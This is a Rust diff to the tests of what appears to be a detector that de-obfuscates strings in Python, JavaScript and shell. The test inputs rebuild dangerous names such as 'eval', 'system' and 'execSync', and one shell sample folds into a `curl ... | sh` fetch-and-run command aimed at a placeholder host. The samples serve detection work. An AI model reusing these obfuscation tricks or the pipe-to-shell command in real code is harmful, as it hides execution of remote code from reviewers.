@@ -17,6 +17,7 @@ pub(crate) mod apis;
 pub(crate) mod effects;
 pub(crate) mod engine;
 pub(crate) mod facts;
+pub(crate) mod front;
 pub(crate) mod js;
 pub(crate) mod ops;
 pub(crate) mod python;
@@ -299,6 +300,16 @@ mod tests {
             .collect()
     }
 
+    /// The strings folded in `text` as `lang`.
+    fn folded(lang: Lang, text: &str) -> Vec<String> {
+        let facts = analyze(lang, text, 0).expect("parses");
+        facts
+            .folded
+            .iter()
+            .filter_map(|(_, v)| v.as_str().map(str::to_owned))
+            .collect()
+    }
+
     fn has(lang: Lang, text: &str, code: &str, needle: &str) -> bool {
         let f = found(lang, text);
         let ok = f.iter().any(|(c, r)| c == code && r.contains(needle));
@@ -308,41 +319,32 @@ mod tests {
 
     #[test]
     fn folds_strings_in_python() {
-        let facts = analyze(
+        let folded = folded(
             Lang::Python,
             "a = 'ev' + \"al\"\nb = ''.join([chr(c) for c in [115, 121, 115, 116, 101, 109]])\nc = 'abcd'[::-1]\nd = '%s-%d' % ('xy', 7)\ne = f'{a}!'\nf = bytes.fromhex('73797374656d').decode()\ng = '{}{}'.format('pp', 'qq')\n",
-            0,
-        )
-        .expect("parses");
-        let folded: Vec<&str> = facts.folded.iter().filter_map(|(_, v)| v.as_str()).collect();
+        );
         for want in ["eval", "system", "dcba", "xy-7", "eval!", "ppqq"] {
-            assert!(folded.contains(&want), "{want} not folded: {folded:?}");
+            assert!(folded.iter().any(|f| f == want), "{want} not folded: {folded:?}");
         }
     }
 
     #[test]
     fn folds_strings_in_javascript() {
-        let facts = analyze(
+        let folded = folded(
             Lang::JavaScript,
             "const a = 'child_' + 'process';\nconst b = ['e','v','a','l'].join('');\nconst c = 'lave'.split('').reverse().join('');\nconst d = String.fromCharCode(115, 112, 97, 119, 110);\nconst e = atob('ZXhlY1N5bmM=');\nconst f = `${a}/x`;\nconst g = Buffer.from('6576616c', 'hex').toString();\nconst h = '\\x73\\x70\\x61\\x77\\x6e';\n",
-            0,
-        )
-        .expect("parses");
-        let folded: Vec<&str> = facts.folded.iter().filter_map(|(_, v)| v.as_str()).collect();
+        );
         for want in ["child_process", "eval", "spawn", "execSync", "child_process/x"] {
-            assert!(folded.contains(&want), "{want} not folded: {folded:?}");
+            assert!(folded.iter().any(|f| f == want), "{want} not folded: {folded:?}");
         }
     }
 
     #[test]
     fn folds_words_in_shell() {
-        let facts = analyze(
+        let folded = folded(
             Lang::Shell,
             "a=cu; b='rl'\n$a$b -s https://x.invalid/i | sh\nc=$(echo aWQ= | base64 -d)\n$c\nd=$(printf '\\x69\\x64')\n",
-            0,
-        )
-        .expect("parses");
-        let folded: Vec<&str> = facts.folded.iter().filter_map(|(_, v)| v.as_str()).collect();
+        );
         assert!(
             folded.iter().any(|f| f.starts_with("curl -s https://x.invalid/i | sh")),
             "{folded:?}"
